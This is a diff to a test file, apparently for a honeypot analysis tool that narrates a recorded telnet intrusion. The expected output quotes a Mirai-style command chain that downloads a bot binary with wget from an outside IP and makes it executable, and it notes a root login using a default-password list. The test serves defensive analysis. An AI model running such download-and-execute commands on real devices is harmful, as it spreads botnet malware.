@@ -81,7 +81,7 @@ def test_the_whole_story_reads_in_the_order_of_time() -> None:
     assert verdict.reasons == [
         f"broken into over telnet at 14:30:10 UTC by {BOT}, who logged in as root with a password of Mirai's list "
         "after 7 failed tries",
-        "ran: enable; system; shell; sh; /bin/busybox ECCHI; cd /tmp; wget http://185.10.1.9/bins/mirai.… "
+        "ran: enable; system; shell; sh; /bin/busybox ECCHI; cd /tmp; wget http://185.10.1.9/bins/mirai.arm; chmod 777 m… "
         "(looks like Mirai)",
         "fetched an ARM executable, mirai.arm (45.0 kB, SHA-256 abababababababab…), "
         f"from http://{LOADER}/bins/mirai.arm at 14:30:20",
